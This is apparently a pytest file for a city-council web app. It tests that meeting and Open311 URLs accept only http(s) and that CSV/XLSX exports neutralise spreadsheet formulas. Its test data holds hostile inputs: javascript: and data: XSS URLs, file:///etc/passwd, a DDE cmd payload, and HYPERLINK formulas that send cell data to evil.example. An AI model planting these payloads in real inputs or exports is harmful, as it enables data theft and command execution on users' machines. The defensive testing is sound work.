"""Addresses people enter are http(s) only; spreadsheets the server exports open no formula (docs/security.md)."""

from __future__ import annotations

import base64
import csv
import io
import json

import requests
from openpyxl import load_workbook

from tests.server_instruments.helpers import J, Server, resident_session, shell, staff_session

HOSTILE_URLS = ["javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
                "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd",
                "ftp://files.example.org/x", "//evil.example/x", "https://", "https://meet.example.org/a b"]
# What a spreadsheet would run: each starts with one of = + - @ tab CR.
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Деталі")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def _commission(srv: Server) -> int:
    return int(J(srv).get("/api/council/factions").json()["commissions"][0]["id"])


def test_a_meeting_video_link_is_http_or_https_only(srv: Server) -> None:
    staff = J(srv, staff_session(srv, "secretary"))
    com = _commission(srv)
    for url in HOSTILE_URLS:
        r = staff.post("/api/meetings/", {"commission": com, "title": "Засідання", "starts_at": "2031-03-01T10:00:00+02:00",
                                          "video_url": url, "agenda": ["Питання"]})
        assert r.status_code == 422, (url, r.status_code, r.text[:200])
    r = staff.post("/api/meetings/", {"commission": com, "title": "Засідання", "starts_at": "2031-03-01T10:00:00+02:00",
                                      "video_url": "https://meet.example.org/budget-15", "agenda": ["Питання"]})
    assert r.status_code == 201, r.text
    page = J(srv).get(f"/meetings/{r.json()['id']}/").text
    assert 'href="https://meet.example.org/budget-15"' in page
    assert "javascript:" not in J(srv).get("/api/meetings/").text


def test_open311_media_url_is_http_or_https_only(srv: Server) -> None:
    service = requests.get(srv.url + "/open311/v2/services.json", timeout=20).json()[0]["service_code"]
    form = {"api_key": "demo-open311-key", "service_code": service, "lat": "48.46", "long": "35.04",
            "description": "Яма на дорозі"}
    for url in HOSTILE_URLS[:5]:
        r = requests.post(srv.url + "/open311/v2/requests.json", data={**form, "media_url": url}, timeout=20)
        assert r.status_code == 400 and "media_url" in r.text, (url, r.status_code)
    ok = requests.post(srv.url + "/open311/v2/requests.json",
                       data={**form, "media_url": "https://photos.example.org/pit.jpg"}, timeout=20)
    assert ok.status_code == 201, ok.text


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def test_survey_results_csv_neutralises_formulas(srv: Server) -> None:
    staff = J(srv, staff_session(srv, "publisher"))
    sid = staff.post("/api/consult/surveys", {"title": "Побажання", "anonymous": True, "questions": [
        {"kind": "text", "text": "Ваші побажання"}]}).json()["id"]
    for who, text in zip(["test-0001", "test-0002", "test-0003"], FORMULAS[:3], strict=True):
        r = J(srv, resident_session(srv, who)).post(f"/api/consult/surveys/{sid}/responses",
                                                    {"consent": True, "answers": {"1": text}})
        assert r.status_code == 201, r.text
    texts = [row[2] for row in _rows(J(srv).get(f"/api/consult/surveys/{sid}/results.csv").text)[1:]]
    # the API strips surrounding whitespace from free text; what is left starts with = + or -
    assert sorted(texts) == sorted("'" + t.strip() for t in FORMULAS[:3])


def test_petitions_export_neutralises_a_formula_in_a_title(srv: Server) -> None:
    staff, author = J(srv, staff_session(srv, "moderator")), J(srv, resident_session(srv, "test-0003"))
    title = '=HYPERLINK("http://evil.example","Підписати")'
    r = author.post("/api/petitions/", {"title": title, "text": "Прошу міську раду облаштувати пандуси біля шкіл."})
    assert r.status_code == 201, r.text
    assert staff.post(f"/api/petitions/{r.json()['id']}/moderate", {"action": "publish"}).status_code == 200
    rows = _rows(J(srv).get("/api/petitions/export.csv").text)
    titles = [row[rows[0].index("title")] for row in rows[1:]]
    assert "'" + title in titles and title not in titles


def test_open_data_csv_and_xlsx_neutralise_formulas(srv: Server) -> None:
    """The open-data writers (CSV and XLSX) on a table holding every formula prefix, in the server's Django."""
    table = json.dumps([["name", "count"], [[f, -5] for f in FORMULAS] + [["Сквер", 3]]])
    out = shell(srv, "import base64, json\nfrom server_stub.opendata.generate import to_csv, to_xlsx\n"
                     f"t = json.loads({table!r})\nt = (t[0], t[1])\n"
                     "print('@@' + base64.b64encode(to_csv(t)).decode() + ' ' + base64.b64encode(to_xlsx(t)).decode())")
    csv_b64, xlsx_b64 = out.split("@@", 1)[1].split()
    rows = _rows(base64.b64decode(csv_b64).decode("utf-8"))
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS] + ["Сквер"]
    assert [r[1] for r in rows[1:]] == ["-5"] * len(FORMULAS) + ["3"], "numbers stay numbers"
    ws = load_workbook(io.BytesIO(base64.b64decode(xlsx_b64))).active
    cells = [ws.cell(row=i, column=1) for i in range(2, len(FORMULAS) + 3)]
    assert [c.data_type for c in cells] == ["s"] * (len(FORMULAS) + 1), "no cell is stored as a formula"
    assert [c.value for c in cells] == ["'" + f for f in FORMULAS] + ["Сквер"]
    assert ws.cell(row=2, column=2).value == -5
